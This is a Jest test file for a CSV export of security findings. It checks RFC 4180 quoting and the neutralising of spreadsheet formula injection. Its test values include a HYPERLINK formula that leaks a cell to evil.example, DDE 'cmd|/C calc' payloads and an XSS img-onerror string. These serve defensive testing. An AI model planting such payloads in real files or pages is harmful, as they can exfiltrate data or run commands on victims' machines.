import { describe, expect, it } from '@jest/globals'
import {
  csvField,
  csvHeader,
  csvRow,
  type ReportCsvFinding
} from '../../../src/report/render/csv.js'

const HEADER = [
  'Id',
  'Title',
  'Severity',
  'Resource type',
  'Resource id',
  'Compliance status',
  'Created at',
  'Product',
  'Account',
  'Region',
  'Workflow status',
  'Updated at'
]

function aCsvFinding(overrides: Partial<ReportCsvFinding> = {}): ReportCsvFinding {
  return {
    id: 'arn:aws:securityhub:eu-west-1:111122223333:subscription/aws-foundational-security-best-practices/v/1.0.0/S3.8/finding/0d5f',
    title: 'S3 general purpose buckets should block public access',
    severity: 'HIGH',
    resourceType: 'AwsS3Bucket',
    resourceId: 'arn:aws:s3:::acme-public-assets',
    complianceStatus: 'FAILED',
    createdAt: '2025-05-01T10:00:00.000Z',
    productName: 'Security Hub',
    accountId: '111122223333',
    region: 'eu-west-1',
    workflowStatus: 'NEW',
    updatedAt: '2025-06-08T10:00:00.000Z',
    ...overrides
  }
}

/**
 * A strict RFC 4180 reader: records end with CRLF, a field is either bare (no comma, quote, CR or
 * LF) or quoted with doubled quotes inside. Anything else throws, so a writer that under-quotes
 * fails here instead of producing a file that only lenient readers accept.
 */
function parseCsv(text: string): string[][] {
  const records: string[][] = []
  let record: string[] = []
  let field = ''
  let quoted = false
  let wasQuoted = false
  let index = 0
  while (index < text.length) {
    const ch = text[index]
    if (quoted) {
      if (ch === '"') {
        if (text[index + 1] === '"') {
          field += '"'
          index += 2
          continue
        }
        quoted = false
        index += 1
        const next = text[index]
        if (next !== undefined && next !== ',' && next !== '\r')
          throw new Error(`text after a closing quote at ${index}`)
        continue
      }
      field += ch
      index += 1
      continue
    }
    if (ch === '"') {
      if (field !== '' || wasQuoted) throw new Error(`quote inside a bare field at ${index}`)
      quoted = true
      wasQuoted = true
      index += 1
    } else if (ch === ',') {
      record.push(field)
      field = ''
      wasQuoted = false
      index += 1
    } else if (ch === '\r') {
      if (text[index + 1] !== '\n') throw new Error(`bare CR at ${index}`)
      record.push(field)
      records.push(record)
      record = []
      field = ''
      wasQuoted = false
      index += 2
    } else if (ch === '\n') {
      throw new Error(`bare LF at ${index}`)
    } else {
      field += ch
      index += 1
    }
  }
  if (quoted) throw new Error('unterminated quoted field')
  if (field !== '' || record.length > 0) throw new Error('last record does not end with CRLF')
  return records
}

describe('csvHeader', () => {
  it('names the twelve columns once, ending in CRLF', () => {
    const header = csvHeader()
    expect(header.endsWith('\r\n')).toBe(true)
    expect(parseCsv(header)).toEqual([HEADER])
  })
})

describe('csvRow', () => {
  it('writes plain values bare, in header order, ending in CRLF', () => {
    const line = csvRow(aCsvFinding())
    expect(line).toBe(
      'arn:aws:securityhub:eu-west-1:111122223333:subscription/aws-foundational-security-best-practices/v/1.0.0/S3.8/finding/0d5f,' +
        'S3 general purpose buckets should block public access,HIGH,AwsS3Bucket,arn:aws:s3:::acme-public-assets,FAILED,' +
        '2025-05-01T10:00:00.000Z,Security Hub,111122223333,eu-west-1,NEW,2025-06-08T10:00:00.000Z\r\n'
    )
  })

  it('writes missing fields as empty cells', () => {
    const line = csvRow({ id: 'finding-1' })
    expect(line).toBe(`finding-1${','.repeat(11)}\r\n`)
    expect(parseCsv(line)[0]).toHaveLength(12)
  })

  it.each([
    ['a comma', 'openssl, libssl', '"openssl, libssl"'],
    ['a quote', 'the "root" user', '"the ""root"" user"'],
    ['only quotes', '""', '""""""'],
    ['a line feed', 'line one\nline two', '"line one\nline two"'],
    ['a carriage return', 'line one\rline two', '"line one\rline two"'],
    ['CRLF', 'line one\r\nline two', '"line one\r\nline two"'],
    ['nothing special', 'CVE-2024-1234 in openssl', 'CVE-2024-1234 in openssl'],
    ['a single quote', "it's fine", "it's fine"],
    ['an empty value', '', '']
  ])('quotes a field with %s only when RFC 4180 requires it', (_case, value, expected) => {
    expect(csvField(value)).toBe(expected)
  })

  it.each([
    [
      '=',
      '=HYPERLINK("https://evil.example/?"&A1,"Click")',
      '"\'=HYPERLINK(""https://evil.example/?""&A1,""Click"")"'
    ],
    ['+', "+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"],
    ['-', '-2+3', "'-2+3"],
    ['@', '@SUM(1+1)*cmd', "'@SUM(1+1)*cmd"],
    ['tab', '\t=1+1', "'\t=1+1"],
    ['CR', '\r=1+1', '"\'\r=1+1"']
  ])('neutralises a cell starting with %s', (_start, value, expected) => {
    expect(csvField(value)).toBe(expected)
  })

  it('leaves formula characters alone when they are not first', () => {
    expect(csvField('a=b+c-d@e')).toBe('a=b+c-d@e')
    expect(csvField('2025-06-09T06:00:00Z')).toBe('2025-06-09T06:00:00Z')
  })

  it('neutralises every column, not just the title', () => {
    const line = csvRow({ id: '=1', resourceId: '-x', productName: '@p', updatedAt: '+1' })
    const [cellsRead] = parseCsv(line)
    expect(cellsRead?.[0]).toBe("'=1")
    expect(cellsRead?.[4]).toBe("'-x")
    expect(cellsRead?.[7]).toBe("'@p")
    expect(cellsRead?.[11]).toBe("'+1")
  })
})

describe('CSV round trip', () => {
  const hostile = [
    '</script><img src=x onerror=alert(1)>',
    'comma, "quote", and\r\nCRLF',
    'lone \r and lone \n',
    '"starts with a quote',
    'ends with a quote"',
    ',',
    '',
    '   padded   ',
    'unicode: 🔐 Überprüfung 漏洞 — ñ',
    '=cmd|"/C calc"!A0',
    '-1',
    '@import'
  ]

  /** What a spreadsheet should show: the value, with a `'` if it would otherwise be a formula. */
  function expectedCell(value: string): string {
    return /^[=+\-@\t\r]/.test(value) ? `'${value}` : value
  }

  it('reads back every value written, rows streamed one call at a time', () => {
    const findings = hostile.map((value, index) =>
      aCsvFinding({ id: `finding-${index}`, title: value, resourceId: value, region: value })
    )
    // What a file stream would receive: the header once, then one string per row.
    const file = csvHeader() + findings.map((finding) => csvRow(finding)).join('')
    const [header, ...rows] = parseCsv(file)
    expect(header).toEqual(HEADER)
    expect(rows).toHaveLength(hostile.length)
    rows.forEach((cellsRead, index) => {
      const value = hostile[index] ?? ''
      expect(cellsRead).toHaveLength(12)
      expect(cellsRead[0]).toBe(`finding-${index}`)
      expect(cellsRead[1]).toBe(expectedCell(value))
      expect(cellsRead[4]).toBe(expectedCell(value))
      expect(cellsRead[9]).toBe(expectedCell(value))
      expect(cellsRead[2]).toBe('HIGH')
    })
  })

  it('keeps non-ASCII text intact through UTF-8', () => {
    const line = csvRow(aCsvFinding({ title: 'unicode: 🔐 Überprüfung 漏洞' }))
    const decoded = Buffer.from(line, 'utf8').toString('utf8')
    expect(parseCsv(decoded)[0]?.[1]).toBe('unicode: 🔐 Überprüfung 漏洞')
  })
})
